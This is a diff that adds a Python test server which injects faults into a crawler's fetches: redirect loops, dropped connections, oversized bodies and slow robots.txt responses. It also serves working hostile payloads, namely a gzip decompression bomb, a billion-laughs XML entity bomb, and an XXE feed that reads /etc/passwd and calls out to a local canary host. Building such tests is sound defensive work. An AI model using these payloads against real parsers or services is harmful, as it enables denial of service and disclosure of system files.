@@ -1,0 +1,237 @@
+"""A fault-injecting web server for the reliability matrix, run in its own process:
+
+    python -m tests.faultserver [--robots ok|404|503|timeout|delay:N] [--corpus DIR]
+
+prints `<base URL> <canary URL>` on its first line, then serves on 127.0.0.1 (port 0) until killed. The canary
+is a second listener that only counts hits (`GET /_canary` on the main server returns the count): whatever
+the crawl was tricked into requesting there shows up. Endpoints (reliability guide, section 3):
+
+    /robots.txt                 by --robots (ok, 404, 503, a timeout, or Crawl-delay: N)
+    /feed.xml?links=a,b         an RSS feed of those paths (comma-separated, URL-encoded), dated today
+    /a/<n>                      the n-th real corpus page (pages.jsonl), read in place
+    /status/<code>?retry_after=N
+    /delay/<seconds>/a/<n>      a corpus page, late
+    /drop  /partial             a connection closed before any answer / mid-body
+    /gzipbomb                   100 MiB of zeros, gzip-encoded (~100 KB on the wire)
+    /big?mb=N                   N MiB of HTML (with Content-Length, or chunked with &chunked=1)
+    /bin/<name>                 PNG bytes, whatever the name says
+    /redirect?to=URL  /refresh?to=URL  /loop/a  /chain/<n>
+    /xml/bomb  /xml/xxe         a billion-laughs feed; a feed with external entities at the canary
+"""
+
+from __future__ import annotations
+
+import argparse
+import datetime as dt
+import json
+import socket
+import sys
+import threading
+import time
+import zlib
+from email.utils import format_datetime
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.parse import parse_qs, unquote, urlsplit
+
+SHARED_CORPUS = Path(__file__).resolve().parent.parent.parent / "shared" / "corpus"
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\0" * 64
+
+
+class _State:
+    canary_hits = 0
+    lock = threading.Lock()
+
+
+def _gzip_bomb(size: int = 100 * 1024 * 1024) -> bytes:
+    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip framing
+    chunk = b"\0" * (1024 * 1024)
+    parts = [compressor.compress(chunk) for _ in range(size // len(chunk))]
+    return b"".join(parts) + compressor.flush()
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--robots", default="ok")
+    parser.add_argument("--corpus", default=str(SHARED_CORPUS))
+    args = parser.parse_args()
+    corpus = Path(args.corpus)
+    pages = [json.loads(line) for line in (corpus / "pages.jsonl").read_text().splitlines()]
+    bomb = _gzip_bomb()
+
+    class Canary(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            with _State.lock:
+                _State.canary_hits += 1
+            self.send_response(200)
+            self.send_header("Content-Length", "2")
+            self.end_headers()
+            self.wfile.write(b"hi")
+
+        do_POST = do_HEAD = do_GET  # noqa: N815
+
+        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
+            pass
+
+    canary = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
+    canary.daemon_threads = True
+    canary_url = f"http://127.0.0.1:{canary.server_address[1]}"
+
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def do_GET(self) -> None:  # noqa: N802, C901 - one dispatch table
+            parts = urlsplit(self.path)
+            query = {key: values[-1] for key, values in parse_qs(parts.query).items()}
+            path = parts.path
+            base = f"http://127.0.0.1:{self.server.server_address[1]}"
+            if path == "/_canary":
+                return self._send(200, json.dumps({"hits": _State.canary_hits}).encode(), "application/json")
+            if path == "/robots.txt":
+                return self._robots(base)
+            if path == "/feed.xml":
+                links = [unquote(link) for link in query.get("links", "").split(",") if link]
+                return self._send(200, _feed(base, links), "application/rss+xml")
+            if path.startswith("/a/"):
+                return self._page(int(path.split("/")[2]))
+            if path.startswith("/status/"):
+                headers = {"Retry-After": query["retry_after"]} if "retry_after" in query else {}
+                return self._send(int(path.split("/")[2]), b"<html><body>status</body></html>", headers=headers)
+            if path.startswith("/delay/"):
+                time.sleep(float(path.split("/")[2]))
+                return self._page(int(path.split("/")[4]))
+            if path == "/drop":
+                self.connection.shutdown(socket.SHUT_RDWR)
+                return None
+            if path == "/partial":
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", "100000")
+                self.end_headers()
+                self.wfile.write(b"<html><body><p>" + b"cut short " * 500)
+                self.wfile.flush()
+                self.connection.shutdown(socket.SHUT_RDWR)
+                return None
+            if path == "/gzipbomb":
+                return self._send(200, bomb, "text/html", headers={"Content-Encoding": "gzip"})
+            if path == "/big":
+                return self._big(float(query.get("mb", "50")), query.get("chunked") == "1")
+            if path.startswith("/bin/"):
+                return self._send(200, PNG, "image/png")
+            if path == "/redirect":
+                return self._send(302, b"", headers={"Location": query["to"]})
+            if path == "/refresh":
+                target = query["to"].replace('"', "%22")
+                body = f'<html><head><meta http-equiv="refresh" content="0;url={target}"></head></html>'.encode()
+                return self._send(200, body)
+            if path in ("/loop/a", "/loop/b"):
+                return self._send(302, b"", headers={"Location": "/loop/b" if path == "/loop/a" else "/loop/a"})
+            if path.startswith("/chain/"):
+                left = int(path.split("/")[2])
+                return self._send(302, b"", headers={"Location": f"/chain/{left - 1}" if left > 0 else "/a/0"})
+            if path == "/xml/bomb":
+                return self._send(200, _billion_laughs(), "application/rss+xml")
+            if path == "/xml/xxe":
+                return self._send(200, _xxe(canary_url), "application/rss+xml")
+            return self._send(404, b"not here")
+
+        def _robots(self, base: str) -> None:
+            mode = args.robots
+            if mode == "404":
+                return self._send(404, b"no robots here")
+            if mode == "503":
+                return self._send(503, b"User-agent: *\nAllow: /\n")
+            if mode == "timeout":
+                time.sleep(30)
+                return self._send(200, b"User-agent: *\nAllow: /\n")
+            rules = "User-agent: *\nAllow: /\n"
+            if mode.startswith("delay:"):
+                rules += f"Crawl-delay: {mode.split(':')[1]}\n"
+            return self._send(200, rules.encode(), "text/plain")
+
+        def _page(self, index: int) -> None:
+            page = pages[index]
+            return self._send(200, (corpus / page["file"]).read_bytes(), "text/html; charset=utf-8")
+
+        def _big(self, megabytes: float, chunked: bool) -> None:
+            size = int(megabytes * 1024 * 1024)
+            chunk = b"<p>" + b"x" * 1020 + b"</p>"
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            if chunked:
+                self.send_header("Transfer-Encoding", "chunked")
+            else:
+                self.send_header("Content-Length", str(size))
+            self.end_headers()
+            sent = 0
+            try:
+                while sent < size:
+                    piece = chunk[: size - sent]
+                    self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
+                    sent += len(piece)
+                if chunked:
+                    self.wfile.write(b"0\r\n\r\n")
+            except OSError:  # the crawler hung up at its size limit, as it should
+                pass
+
+        def _send(
+            self, status: int, body: bytes, content_type: str = "text/html", headers: dict[str, str] | None = None
+        ) -> None:
+            self.send_response(status)
+            self.send_header("Content-Type", content_type)
+            for name, value in (headers or {}).items():
+                self.send_header(name, value)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            try:
+                self.wfile.write(body)
+            except OSError:
+                pass
+
+        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.daemon_threads = True
+    threading.Thread(target=canary.serve_forever, daemon=True).start()
+    sys.stdout.write(f"http://127.0.0.1:{server.server_address[1]} {canary_url}\n")
+    sys.stdout.flush()
+    server.serve_forever()
+
+
+def _feed(base: str, links: list[str]) -> bytes:
+    today = format_datetime(dt.datetime.now(dt.UTC))
+    items = "".join(
+        f"<item><title>item {i}</title><link>{_xml(link if '://' in link else base + link)}</link>"
+        f"<pubDate>{today}</pubDate></item>"
+        for i, link in enumerate(links)
+    )
+    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>faults</title>{items}</channel></rss>'.encode()
+
+
+def _xml(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;")
+
+
+def _billion_laughs() -> bytes:
+    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
+    return (
+        f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]><rss version="2.0"><channel><title>&lol9;</title>'
+        "<item><title>&lol9;</title><link>http://127.0.0.1/never</link></item></channel></rss>"
+    ).encode()
+
+
+def _xxe(canary: str) -> bytes:
+    return (
+        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">'
+        f'<!ENTITY remote SYSTEM "{canary}/xxe"><!ENTITY % dtd SYSTEM "{canary}/dtd"> %dtd;]>'
+        '<rss version="2.0"><channel><title>&file;&remote;</title>'
+        f"<item><title>&file;</title><link>{canary}/&file;</link></item></channel></rss>"
+    ).encode()
+
+
+if __name__ == "__main__":
+    try:
+        main()
+    except KeyboardInterrupt:
+        sys.exit(0)
